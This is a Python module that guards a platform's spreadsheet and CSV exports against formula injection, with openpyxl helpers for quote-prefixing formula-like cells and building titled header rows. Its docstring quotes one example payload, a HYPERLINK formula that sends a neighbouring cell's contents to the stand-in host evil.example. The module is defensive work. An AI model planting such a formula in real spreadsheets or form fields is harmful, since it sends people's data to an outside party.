"""Spreadsheet exports without formula injection (CSV injection, OWASP).

A cell whose text begins with `=`, `+`, `-` or `@` — after any leading whitespace or control characters, which
spreadsheet programs skip (a tab or carriage return before `=` still makes a formula) — is run as a formula by
Excel, WPS or LibreOffice when the file is opened: `=HYPERLINK("http://evil.example/?d="&A1,"点此查看")` in a
citizen's comment would send the neighbouring cells away at a click. Every export of the platform therefore goes
through this module:

- `workbook_bytes(wb)`: the .xlsx of an openpyxl workbook, with every formula-like text cell (in every sheet, the
  titles and headers included) stored as plain text with Excel's "quote prefix" (the text is kept as written;
  Excel, WPS and LibreOffice show it and never evaluate it, not even after the cell is edited). Numbers, dates and
  booleans are left as they are: a negative amount stays a number cell.
- `safe_text(value)`: a CSV field; a formula-like text gets a leading apostrophe (the usual CSV defence, as
  spreadsheet programs read no cell styles from CSV).

`titled_sheet(ws, title, columns)` writes the title row and the header row the exported sheets start with.

The exporters write no formulas of their own; one that ever needs to must not pass through `workbook_bytes`.
"""

from __future__ import annotations

import io
import unicodedata

from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

FORMULA_PREFIXES = ("=", "+", "-", "@")
HEADER_FILL_COLOR = "DDE5F0"


def _skippable(ch: str) -> bool:
    # whitespace (tab, CR, LF, full-width space …) and control/format characters (category C*: \x00-\x1f,
    # zero-width spaces, BOM …): what a spreadsheet program or an earlier .strip() removes before parsing
    return ch.isspace() or unicodedata.category(ch).startswith("C")


def looks_like_formula(text: str) -> bool:
    """True when `text`, after leading whitespace and control characters, starts like a formula."""
    for ch in text:
        if _skippable(ch):
            continue
        # full-width ＝＋－＠ are converted to ASCII by some input methods / programs: treat them alike
        return unicodedata.normalize("NFKC", ch).startswith(FORMULA_PREFIXES)
    return False


def safe_text(value) -> str:
    """A CSV field: None is empty, a formula-like text gets a leading apostrophe."""
    text = "" if value is None else str(value)
    return "'" + text if looks_like_formula(text) else text


def neutralise_workbook(wb) -> int:
    """Make every formula-like text cell of `wb` plain text (quote prefix); the number of cells changed."""
    changed = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and (cell.data_type == "f" or looks_like_formula(value)):
                    cell.data_type = "s"  # written as a string, never as <f>
                    cell.quotePrefix = True  # and Excel keeps it text when the cell is edited
                    changed += 1
    return changed


def workbook_bytes(wb) -> bytes:
    """The .xlsx bytes of an openpyxl workbook, formula injection neutralised (see the module docstring)."""
    neutralise_workbook(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def titled_sheet(ws, title: str, columns, *, title_size: int = 14, freeze: bool = True) -> None:
    """Row 1 the title merged over the columns, row 2 the bold shaded headers with the columns' widths."""
    ws.append([title])
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(columns))
    ws["A1"].font = Font(name="黑体", size=title_size, bold=True)
    ws["A1"].alignment = Alignment(horizontal="center")
    ws.append([name for name, _ in columns])
    fill = PatternFill("solid", fgColor=HEADER_FILL_COLOR)
    for idx, (_, width) in enumerate(columns, start=1):
        cell = ws.cell(row=2, column=idx)
        cell.font = Font(bold=True)
        cell.fill = fill
        ws.column_dimensions[get_column_letter(idx)].width = width
    if freeze:
        ws.freeze_panes = "A3"
